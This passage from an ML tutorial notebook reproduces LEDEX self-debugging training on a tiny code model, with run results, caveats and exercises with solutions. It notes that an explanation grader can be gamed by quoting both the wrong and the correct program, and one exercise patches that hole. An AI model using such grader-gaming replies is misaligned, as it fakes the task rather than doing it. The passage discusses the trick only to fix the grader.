  reports up to +15.92). Its own gain over the rounds is {100 * np.mean(gain['ledex']):+.1f} points, the control's
  {100 * np.mean(gain['control']):+.1f}: the control's rounds are re-samples by a model that never saw a debug prompt.
- **The size-matched control.** Against gold code + other tasks (the same examples count and repetition of the
  code records as LEDEX, no debugging), LEDEX SFT is {c_sized.verdict} it after {ROUNDS} rounds ({100 * c_sized.gap:+.1f} points) and
  {c_sized0.verdict} it on first attempts ({100 * c_sized0.gap:+.1f} points; the size-matched control's first attempts:
  {100 * np.mean(first('sized', 'pass@1')):.1f}%, {c_rep.verdict} the gold-code-only control's).
- **RL.** {PPO_STEPS} PPO steps change pass@1 after {ROUNDS} rounds by {100 * c_rl.gap:+.1f} points ({c_rl.verdict} the SFT
  model; the paper: up to +3.54).
- **First attempts.** Before any refinement, LEDEX SFT's pass@1 is {100 * np.mean(first('ledex', 'pass@1')):.1f}% against
  {100 * np.mean(first('control', 'pass@1')):.1f}% for the control and {100 * np.mean(first('start', 'pass@1')):.1f}% for the start model
  (by split in the table of section 7): half of LEDEX's batches were debug examples, the control's were all code.
- **Explaining known bugs.** Greedy replies to held-out mutants: fixed {100 * fixed['ledex']:.0f}% (LEDEX SFT),
  {100 * fixed['ppo']:.0f}% (-> PPO), {100 * fixed['control']:.0f}% (control), {100 * fixed['sized']:.0f}% (size-matched control),
  {100 * fixed['start']:.0f}% (start); explanation score {ex['ledex']:.2f}, {ex['ppo']:.2f}, {ex['control']:.2f}, {ex['sized']:.2f},
  {ex['start']:.2f}.
"""))

# %% [markdown]
# **What the full run showed** *(written from the full run's outputs above, 3 seeds; a re-run prints its own
# numbers and verdicts, read those first)*
#
# - **LEDEX SFT is above both controls, and most of its lead is there before any feedback.** After 3 rounds its
#   pass@1 is 71.9% against 63.0% (gold code only, +8.9 points) and 54.4% (gold code + other tasks, +17.4), both
#   "above". Its first attempts were already 69.5% against 62.0% (within the seed spread) and 54.4% (above). Its
#   own gain from the rounds, +2.3 points, is above both controls' (+1.0 and +0.0), but small: the refinement
#   rounds add a little on top of a better first attempt. The per-split table says where: on `composed` LEDEX
#   moves from 4.2 to 13.5% over the rounds (the gold-code-only control from 3.1 to 7.3%), and `larger` does not
#   move for any model, so copying the expected value from the feedback was not learned here.
# - **The plainer cause that the size-matched control rules out.** The gold-code-only control sees each of its
#   240 code records about twice as often as LEDEX, whose data set is twice as large. With the same 240 records
#   plus 237 records of the world's other skills (LEDEX's size and repetition, no debugging), first attempts were
#   54.4 ± 4.4%, within the seed spread of the gold-code-only control's 62.0 ± 9.4% and below LEDEX's 69.5 ± 3.6%:
#   seeing the code records less often did not help, so it does not explain LEDEX's lead. What remains untested
#   here is that LEDEX's debug replies end in each task's right code, a second context for the same gold programs;
#   exercise 3 asks the neighbouring question (does the explanation itself matter?).
# - **PPO did not help here.** 8 PPO steps left pass@1 after 3 rounds within the seed spread (71.1 vs 71.9%),
#   against the paper's up to +3.54; on the held-out mutants its greedy replies were in the format less often
#   (79.2 vs 88.5%) and fixed fewer (41.1 vs 47.4%), with a lower explanation score (35.4 vs 38.9). The reward
#   per step (section 6) swings between about 0.2 and 1.5 without a trend: 8 steps of 8 replies are 64 samples
#   per seed, too few to move a policy measurably (notebook 07 needed tens of steps).
# - **Explanations.** Only the two LEDEX models reply in the format at all (0% for the start model and both
#   controls); their explanation scores, 0.39 (LEDEX SFT) and 0.35 (-> PPO) of the three checks on average (bug
#   named, fix named, failing test named), are far below the teacher's 1.00 on its kept replies: the tiny model
#   learns the template, but fixes under half of the held-out mutants.
# - **Against the paper.** LEDEX reports up to +15.92 pass@1 points from its SFT data and up to +3.54 more from
#   RL on 7B-15B code models; here the SFT data's gain has the paper's direction (+8.9 and +17.4 points after 3
#   rounds against the two controls, mostly a better first attempt) and RL's does not show at this budget.

# %% [markdown]
# How to read these, whatever they are:
#
# - **The models that never saw a debug prompt** (start and both controls) were never taught the reply format. A
#   reply with code replaces the chain's code, so for a control that answers with code of its own, the
#   "refinement" rounds are second and third attempts at the task; a reply without code keeps the old code, so
#   a model that writes none (the start model's empty greedy reply above) stays where its first attempt was.
#   That is a real baseline: a gain of LEDEX over it must come from reading the feedback, not from sampling more.
# - **Where refinement can help.** On `test` the first attempt is usually right already; the room is on the shifts
#   (`larger`: 3-digit constants the model miscopies, `composed`: two operations it has never seen written). A
#   feedback line such as `f(0) returned 46, expected 463.` states the answer's constant outright for `larger`,
#   which a debugger could copy; for `composed` the fix needs a program shape the model cannot write.
# - **Scale.** LEDEX trains 7B-15B models that already write and explain code; here a 1.8M-parameter model learns
#   the reply format, the explanation template and the fix in `STEPS` steps. Copying a fragment from the feedback
#   into the code is the kind of fix within its reach (whether it learned to is in the per-split table: `larger`
#   is where copying would show); reasoning about what a program computes is not.
# - **RL.** `PPO_STEPS` PPO steps of `PPO_BATCH` replies are `PPO_STEPS` x `PPO_BATCH` sampled replies per seed (64 in
#   the full profile): the reward curve and the
#   KL above show how far the policy moved. Notebook 07 needed tens of steps to move a policy measurably.
#
# ## Exercises
#
# **1. Reward without the explanation.** Set the explanation weight to 0 (reward = test pass rate, -1 unparsed),
# run PPO for seed 0 from the LEDEX SFT model, and compare the explanation score on the held-out mutants with the
# run above. Does the explanation get worse when nothing rewards it?
#
# <details><summary>Hint</summary>
#
# `selfdebug.reward_fn(selfdebug.Config(explanation_weight=0.0))` is the reward; the rest is section 6's PPO call
# and section 7's `score_replies` on `DEBUG_TEST`.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# seed = SEEDS[0]
# torch.manual_seed(seed)
# plain = ppo.run(add_lora(copy.deepcopy(MODELS["ledex"][seed]), **ppo.LORA), TOKENIZER, RL, replace(ONLINE, seed=seed),
#                 PPO_CONFIG, selfdebug.reward_fn(selfdebug.Config(explanation_weight=0.0)))
# replies = selfdebug.model_generate(plain.model.merge_and_unload(), TOKENIZER, MAX_NEW_TOKENS, temperature=0.0)(
#     [r["messages"][0]["content"] for r in DEBUG_TEST])
# s = selfdebug.score_replies(DEBUG_TEST, replies)
# print(f"explanation score {np.mean([x['explanation_score'] for x in s]):.2f} "
#       f"(with weight 0.5: {EXPLAIN['ppo'][seed]['explanation_score']:.2f})")
# ```
#
# With a few PPO steps the difference is small either way: the SFT data already fix the explanation's template,
# and the policy moves little. Run more steps (`replace(ONLINE, steps=50)`) to see the two rewards pull apart.
# </details>
#
# **2. Close the proxy's hole.** Section 5 showed that quoting both programs meets the "bug" and "fix" checks. Write
# a stricter explanation score that gives no credit when the explanation contains the whole wrong or the whole gold
# program, and check it on the six candidate replies.
#
# <details><summary>Hint</summary>
#
# `selfdebug.explanation_checks(explanation, wrong, gold, call)` returns the checks; compare
# `selfdebug._squeeze(program)` (whitespace removed) with the squeezed explanation.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# def strict_score(explanation, m):
#     text = selfdebug._squeeze(explanation)
#     if selfdebug._squeeze(m["wrong"]) in text or selfdebug._squeeze(m["gold"]) in text:
#         return 0.0
#     checks = selfdebug.explanation_checks(explanation, m["wrong"], m["gold"], m["failing_call"])
#     return sum(checks.values()) / len(checks)
#
# for name, reply in CANDIDATES.items():
#     p = selfdebug.parse_reply(reply)
#     print(f"{name:34s} {strict_score(p.explanation, m) if p.code else float('nan'):.2f}")
# ```
#
# The teacher's reply keeps its score (it quotes fragments, not programs); the gaming reply drops to 0. On
# programs of one line a fragment can be the whole line, so a stricter rule also costs honest explanations of a
# bug in a very short program: check the share of the teacher's kept replies it still scores 1.
# </details>
#
# **3. Is it the explanation?** Train a third arm on the same debug prompts with replies that hold only the fixed
# code (`"Explanation: -\nFixed code:\n..."`: a placeholder, since the parser needs an explanation), same steps, seed 0, and compare its pass@1 after 3 rounds with LEDEX
# SFT's. (The paper's ablation finds explanations help the refinement.)
#
# <details><summary>Hint</summary>
#
# Copy `DEBUG` with the assistant turn replaced by `"Explanation: -\nFixed code:\n" + code` (the parser needs a
# non-empty explanation), train as in section 6, evaluate as in section 7.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# seed = SEEDS[0]
# bare = [{**r, "messages": [r["messages"][0], {"role": "assistant", "content":
#          "Explanation: -\nFixed code:\n" + selfdebug.parse_reply(r["messages"][1]["content"]).code}]} for r in DEBUG]
# run = train(copy.deepcopy(MODELS["start"][seed]), TOKENIZER, bare + CODE, replace(ARM, seed=seed))
# out = selfdebug.refinement_rounds(EVAL, selfdebug.model_generate(run.model, TOKENIZER, MAX_NEW_TOKENS, seed=seed),
#                                   n=N_CHAINS, rounds=ROUNDS, ks=KS)
# print(f"pass@1 after {ROUNDS} rounds: fix only {100 * out['rows'][ROUNDS]['pass@1']:.1f}%, "
#       f"LEDEX SFT {100 * ROUND_ROWS['ledex'][seed][ROUNDS]['pass@1']:.1f}%")
# ```
#
# One seed each: the suite's rule counts any gap between two single seeds, so run seeds 1 and 2 before you
# believe it.
# </details>
#
# **4. What verification buys.** Train an arm on every parsed teacher reply, verified or not (the 30% wrong
# refinements included), and compare its fixed share on `DEBUG_TEST` with LEDEX SFT's.
#
# <details><summary>Hint</summary>
#
# `selfdebug.trajectory_record(tr, k)` turns any parsed trajectory of `TRAJ` into an SFT record; train as in section 6
# and score greedy replies on `DEBUG_TEST` as in section 7.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# seed = SEEDS[0]
# unverified = [selfdebug.trajectory_record(tr, k) for k, tr in enumerate(tr for tr in TRAJ if tr.code is not None)]
# run = train(copy.deepcopy(MODELS["start"][seed]), TOKENIZER, unverified + CODE, replace(ARM, seed=seed))
# replies = selfdebug.model_generate(run.model, TOKENIZER, MAX_NEW_TOKENS, temperature=0.0)(
#     [r["messages"][0]["content"] for r in DEBUG_TEST])
# s = selfdebug.score_replies(DEBUG_TEST, replies)
# print(f"fixed: unverified data {np.mean([x['pass_rate'] == 1.0 for x in s]):.0%}, "
#       f"verified (LEDEX SFT) {EXPLAIN['ledex'][seed]['fixed']:.0%}")
# ```
# </details>

# %% [markdown]
# **5. Check yourself: write the unbiased pass@k estimator.** Write `my_pass_at_k(n, c, k)`: with n samples of which c pass every test, the probability that at least one
# of k samples drawn from them passes. Check it with `check_piece(my_pass_at_k, "pass-at-k")`.
#
# <details><summary>Hint</summary>
#
# Count the ways to draw k samples without replacement that are all wrong: C(n - c, k) of C(n, k)
# (`math.comb`). `1 - (1 - c/n)^k` draws with replacement and is biased.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# import math
#
# from sftkit.checks import check_piece
#
#
# def my_pass_at_k(n, c, k):
#     return 1 - math.comb(n - c, k) / math.comb(n, k)  # math.comb is 0 when n - c < k: pass@k = 1
#
#
# check_piece(my_pass_at_k, "pass-at-k")
# ```
#
# `sftkit.sandbox.pass_at_k` computes the same product without large binomials (Chen et al. 2021's form), which
# matters for n in the hundreds.
# </details>

# %%
print(f"this run: {(time.time() - T0) / 60:.1f} minutes on {DEVICE} ({'light' if LIGHT else 'full'} profile)")
